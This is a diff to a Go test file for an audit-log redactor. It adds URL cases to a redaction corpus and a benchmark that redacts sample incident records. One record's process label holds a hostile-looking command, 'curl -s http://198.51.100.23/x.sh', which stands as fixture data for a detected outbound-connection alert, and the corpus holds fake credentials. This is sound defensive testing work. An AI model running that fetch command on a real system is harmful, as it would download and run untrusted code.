@@ -97,14 +97,11 @@ func TestRedactURLs(t *testing.T) {
 	}
 }
 
-// slowRedactor is r without its prefilters: every pattern runs on every
-// string, as before the prefilters existed.
+// slowRedactor is r without its shortcuts: every pattern and the URL
+// rewrite run on every string, as before the shortcuts existed.
 func slowRedactor(r *Redactor) *Redactor {
 	slow := *r
-	slow.patterns = nil
-	for _, p := range r.patterns {
-		slow.patterns = append(slow.patterns, pattern{re: p.re})
-	}
+	slow.exhaustive = true
 	return &slow
 }
 
@@ -119,10 +116,12 @@ var redactCorpus = []string{
 	"url?token=abc&x=1", "PassWord=hunter2", "passwd=x", "SECRET=y z", "apikey=k", "API_KEY=k", "api-key=k",
 	"Token=\u212a", "ſecret=x", "to\u212aen=x", "https://hooks.slack.com/services/T000/B000/XXXX", "HOOKS.SLACK.COM/workflows/abc",
 	"https://alice:s3cr3t@hooks.example.com/x?sig=abc", "bearer\u00a0abcdefghijkl", "Beare\u0280 abcdefghijkl",
+	"see https://runbooks.example/cart and http://u@h/", "https://h.example/a#b=c", "https://h.example/a?x=1", "https://plain.example/path",
 }
 
 // TestRedactPrefiltersChangeNothing: the prefilters only skip patterns that
-// cannot match, so redacting with them gives what running every pattern
+// cannot match, and the URL rewrite is skipped only on text it would leave
+// as it is, so redacting with the shortcuts gives what running everything
 // gives, for the default patterns and for user ones.
 func TestRedactPrefiltersChangeNothing(t *testing.T) {
 	for _, cfg := range []RedactConfig{{}, {Patterns: []string{`x*`, `ACME-\d{6}`}}} {
@@ -166,4 +165,30 @@ func FuzzRedactPrefilters(f *testing.F) {
 			t.Fatalf("String(%q) = %q, without prefilters %q", s, got, want)
 		}
 	})
+}
+
+// BenchmarkRedactRecord redacts records shaped like the engine's per
+// event: received (labels), matched (rule, saw) and a step's dry run
+// (params with a URL and a body, a summary).
+//
+//	go test -run '^$' -bench BenchmarkRedactRecord ./engine/audit/
+func BenchmarkRedactRecord(b *testing.B) {
+	r, err := NewRedactor(RedactConfig{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	recs := []Record{
+		{Kind: KindReceived, EventID: "falco:3f1c6b0e-8a2d-4b7e-9c1a-5d2e7f9a0b14", Message: "Unexpected outbound connection destination firing (warning)",
+			Data: map[string]any{"labels": map[string]string{"k8s.ns.name": "shop", "k8s.pod.name": "cart-api-6d8f9c7b5-x2lkq", "proc.cmdline": "curl -s http://198.51.100.23/x.sh", "user.name": "root"}}},
+		{Kind: KindMatched, Playbook: "contain", Outcome: "matched", Data: map[string]any{"rule": `event.source == "falco" && event.labels["k8s.ns.name"] != "kube-system"`, "mode": "shadow",
+			"saw": map[string]any{"event.source": "falco", `event.labels["k8s.ns.name"]`: "shop"}}},
+		{Kind: KindStepDryRun, Playbook: "contain", Action: "webhook.notify", Target: "https://hooks.example.com/fire", Message: "would run (mode: shadow): POST https://hooks.example.com/fire",
+			Data: map[string]any{"params": map[string]any{"url": "https://hooks.example.com/fire", "body": map[string]any{"alert": "Unexpected outbound connection destination", "namespace": "shop"}}}},
+	}
+	b.ReportAllocs()
+	for b.Loop() {
+		for _, rec := range recs {
+			_ = r.Record(rec)
+		}
+	}
 }
